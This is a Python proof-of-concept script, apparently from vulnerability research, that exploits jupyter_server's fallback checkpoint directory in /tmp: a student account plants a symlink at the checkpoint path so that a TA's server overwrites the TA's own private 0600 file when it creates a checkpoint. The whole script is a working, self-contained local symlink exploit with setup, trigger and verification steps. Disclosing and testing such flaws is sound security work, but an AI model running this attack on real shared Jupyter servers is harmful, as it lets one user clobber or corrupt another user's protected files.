"""a08: jupyter_server's FileCheckpoints puts a notebook's checkpoint in /tmp/jupyter_checkpoints/<rel>/ when the
notebook's own folder is not writable by the server's user (a non-root TA opening a student's notebook where it lies:
the exchange's inbound folder, a student's folder). A local student makes that path first with a link to a file of
the TA's; the TA's server (here its contents manager, the class JupyterLab's /api/contents/.../checkpoints calls) creates
a checkpoint."""
import os, subprocess, json
home = "/tmp/attack52-user-home"
sfold = "/tmp/attack52-user-a08-inbound/st52u+ps1_memory+2026-11-30 00:00:00.000000 UTC"
subprocess.run(["rm", "-rf", "/tmp/attack52-user-a08-inbound", "/tmp/jupyter_checkpoints"])
os.makedirs(sfold); os.chmod("/tmp/attack52-user-a08-inbound", 0o755)
nb = json.load(open("CLONE/release/ps1_memory/ps1_memory.ipynb"))
json.dump(nb, open(f"{sfold}/ps1_memory.ipynb", "w"))
subprocess.run(["chown", "-R", "1001:1001", "/tmp/attack52-user-a08-inbound"]); os.chmod(sfold, 0o755); os.chmod(f"{sfold}/ps1_memory.ipynb", 0o666)  # hers: writable by all, her folder not
victim = f"{home}/ta_victim2"
open(victim, "w").write("the TA's own file\n"); os.chown(victim, 65534, 65534); os.chmod(victim, 0o600)
rel = os.path.relpath(sfold, "/tmp")
# the student (uid 1001) plants the checkpoint path
plant = (f"import os; d = '/tmp/jupyter_checkpoints/{rel}'; os.makedirs(d); "
         f"[os.chmod(p, 0o777) for p in ['/tmp/jupyter_checkpoints', d]]; os.symlink('{victim}', d + '/ps1_memory-checkpoint.ipynb'); print('planted', d)")
print(subprocess.run(["setpriv", "--reuid", "1001", "--regid", "1001", "--clear-groups", "/usr/bin/python3", "-c", plant], capture_output=True, text=True))
ta = f"""
from jupyter_server.services.contents.filemanager import FileContentsManager
cm = FileContentsManager(root_dir='/tmp')
path = {json.dumps(rel + '/ps1_memory.ipynb')}
print('TA lists checkpoints:', cm.list_checkpoints(path))
print('TA creates a checkpoint:', cm.create_checkpoint(path))
"""
r = subprocess.run(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", "CLONE/.venv/bin/python", "-c", ta],
                   capture_output=True, text=True, env=dict(os.environ, HOME=home))
print(r.stdout, r.stderr[-1500:])
print("TA's 0600 file now starts:", repr(open(victim).read()[:120]), "owner", os.stat(victim).st_uid)
subprocess.run(["rm", "-rf", "/tmp/attack52-user-a08-inbound", "/tmp/jupyter_checkpoints"])
